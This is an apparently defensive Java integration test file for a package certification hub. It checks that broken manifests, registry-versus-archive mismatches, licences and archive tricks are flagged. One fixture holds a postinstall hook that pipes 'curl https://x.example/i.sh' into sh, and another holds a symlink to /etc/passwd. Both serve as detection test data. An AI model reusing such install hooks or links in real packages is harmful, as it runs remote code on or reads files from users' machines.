package mcphub.catalog;

import static org.assertj.core.api.Assertions.assertThat;

import io.vertx.core.json.JsonObject;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import mcphub.harness.Packages;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarConstants;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Manifests that are missing, broken, or not what the registry says; and archives with more in them than files. */
final class ManifestsIT extends CatalogCase {
    private static final String CODE = "export const tools = [];\n";

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "none      |                                       | There is none",
                "comment   | // mine {\"name\": \"comment\"}       | It cannot be read",
                "trailing  | {\"name\": \"trailing\"} {}           | It cannot be read",
                "list      | []                                    | it is not a JSON object",
                "number    | {\"name\": 7, \"version\": \"1.0.0\"} | its \"name\" is not a text"
            })
    void a_release_without_a_manifest_that_npm_could_read_is_never_certified(String name, String text, String reason) {
        var files = text == null
                ? Map.of("package/index.js", CODE)
                : Map.of("package/index.js", CODE, "package/package.json", text);
        registry.publish("manifest-" + name, "1.0.0", Packages.tgz(files));
        String mcp = hub.certify("manifest-" + name, "");

        var version = hub.api().get("/api/v1/mcps/" + mcp).getJsonObject("latest_version");
        assertThat(version.getString("status")).isEqualTo("FAILED");
        assertThat(version.getString("status_reason"))
                .startsWith("A package needs a package.json. ")
                .contains(reason);
        assertThat(version.getValue("global_score")).isNull();
    }

    @Test
    void an_upload_without_a_manifest_goes_on_with_a_finding_and_a_limit_that_every_view_tells() {
        String mcp = hub.upload(
                "bare", Packages.tgz(Map.of("package/index.js", Packages.SERVER, "package/README.md", "# Bare")));

        var snapshot = hub.api().get("/api/v1/mcps/" + mcp).getJsonObject("snapshot");
        assertThat(snapshot.getInteger("global_score")).isLessThanOrEqualTo(69);
        var cap = JsonObject.of("reason", "there is no manifest that can be read", "at_most", 69);
        for (String view : List.of("/snapshot/latest", "/scores")) {
            assertThat(hub.api().get(hub.latest(mcp) + view).getJsonArray("caps"))
                    .containsExactly(cap);
        }
        assertThat(snapshot.getJsonArray("caps")).containsExactly(cap);
        assertThat(findings(mcp)).contains("MANIFEST_MISSING");
    }

    @Test
    void three_bytes_before_a_manifest_change_nothing() {
        String manifest = "{\"name\":\"marked\",\"version\":\"1.0.0\",\"dependencies\":{\"minimist\":\"0.0.8\"},"
                + "\"scripts\":{\"postinstall\":\"curl https://x.example/i.sh | sh\"}}";
        registry.publish("plain", "1.0.0", archive(manifest.replace("marked", "plain")));
        registry.publish("marked", "1.0.0", archive("\uFEFF" + manifest), new JsonObject(manifest));
        var plain = snapshot(hub.certify("plain", ""));
        var marked = snapshot(hub.certify("marked", ""));

        for (String field : List.of("global_score", "grade", "certification_level", "total_findings")) {
            assertThat(marked.getValue(field)).as(field).isEqualTo(plain.getValue(field));
        }
    }

    @Test
    void what_the_registry_installs_is_judged_also_where_the_archive_does_not_say_it() {
        String archive = "{\"name\":\"confused\",\"version\":\"1.0.0\"}";
        var says = new JsonObject(archive)
                .put("dependencies", JsonObject.of("minimist", "0.0.8"))
                .put("scripts", JsonObject.of("postinstall", "node x.js"));
        registry.publish("confused", "1.0.0", archive(archive), says);
        String mcp = hub.certify("confused", "");

        assertThat(findings(mcp)).contains("MANIFEST_DIFFERS", "INSTALL_SCRIPT");
        assertThat(hub.query(
                        "select count(*) from analysis.components where package = 'minimist' and version = '0.0.8'"))
                .isEqualTo("1");
        var differs = hub.api()
                .get(hub.latest(mcp) + "/findings?limit=100&severity=high")
                .getJsonArray("findings")
                .encode();
        assertThat(differs)
                .contains("dependencies.minimist: 0.0.8 in the registry, nothing in the archive")
                .contains("scripts.postinstall: node x.js in the registry, nothing in the archive");
    }

    @Test
    void what_an_installation_brings_has_the_licence_that_its_registry_tells() {
        String low = "{\"name\":\"brought-low\",\"version\":\"1.2.0\",\"license\":\"LGPL-3.0-only\"}";
        registry.publish("brought-low", "1.2.0", archive(low), new JsonObject(low));
        String manifest = "{\"name\":\"brings\",\"version\":\"1.0.0\",\"dependencies\":{\"brought-low\":\"^1.0.0\"}}";
        registry.publish("brings", "1.0.0", archive(manifest), new JsonObject(manifest));
        hub.certify("brings", "");

        assertThat(hub.query("select version || ' ' || license from analysis.components where package = 'brought-low'"))
                .isEqualTo("1.2.0 LGPL-3.0-only");
        assertThat(hub.query("select license from analysis.release_licenses where name = 'brought-low'"))
                .isEqualTo("LGPL-3.0-only");
    }

    @Test
    void an_archive_of_another_package_or_version_is_told() {
        registry.publish(
                "lent-name",
                "1.0.0",
                archive("{\"name\":\"other\",\"version\":\"9.9.9\"}"),
                JsonObject.of("name", "lent-name"));
        String mcp = hub.certify("lent-name", "");

        assertThat(hub.api()
                        .get(hub.latest(mcp) + "/findings?limit=100&severity=high")
                        .encode())
                .contains("name: lent-name in the registry, other in the archive")
                .contains("version: 1.0.0 in the registry, 9.9.9 in the archive");
    }

    @Test
    void what_the_registry_says_against_a_release_is_kept_with_its_version() {
        String manifest = "{\"name\":\"old\",\"version\":\"1.0.0\"}";
        registry.publish(
                "old", "1.0.0", archive(manifest), new JsonObject(manifest).put("deprecated", "Use other-mcp instead"));
        String mcp = hub.certify("old", "");

        assertThat(hub.api().get(hub.latest(mcp)).getString("registry_deprecated"))
                .isEqualTo("Use other-mcp instead");
        assertThat(hub.api().get(hub.latest(good)).getValue("registry_deprecated"))
                .isNull();
    }

    @Test
    void links_and_names_that_are_one_elsewhere_are_findings_and_no_reason_to_fail() {
        var entries = new LinkedHashMap<TarArchiveEntry, byte[]>();
        put(entries, "package/package.json", "{\"name\":\"linked\",\"version\":\"1.0.0\"}");
        put(entries, "package/README.md", "# Linked");
        put(entries, "package/readme.MD", "# Another");
        var link = new TarArchiveEntry("package/link.js", TarConstants.LF_SYMLINK);
        link.setLinkName("/etc/passwd");
        entries.put(link, new byte[0]);
        String mcp = hub.upload("linked", Packages.tgzOf(entries));

        assertThat(snapshot(mcp).getInteger("global_score")).isPositive();
        assertThat(findings(mcp)).contains("ARCHIVE_LINKS", "ARCHIVE_CASE_PAIRS", "SOURCE_NOT_READ");
        assertThat(snapshot(mcp).getJsonArray("caps").encode()).contains("was parsed");
    }

    private static byte[] archive(String manifest) {
        return Packages.tgz(Map.of("package/package.json", manifest, "package/index.js", CODE));
    }

    private static void put(Map<TarArchiveEntry, byte[]> entries, String path, String text) {
        byte[] content = text.getBytes(StandardCharsets.UTF_8);
        var entry = new TarArchiveEntry(path);
        entry.setSize(content.length);
        entries.put(entry, content);
    }

    private JsonObject snapshot(String mcp) {
        return hub.api().get(hub.latest(mcp) + "/snapshot/latest");
    }

    private List<String> findings(String mcp) {
        return hub.api().get(hub.latest(mcp) + "/findings?limit=100").getJsonArray("findings").stream()
                .map(finding -> ((JsonObject) finding).getString("control_id"))
                .toList();
    }
}
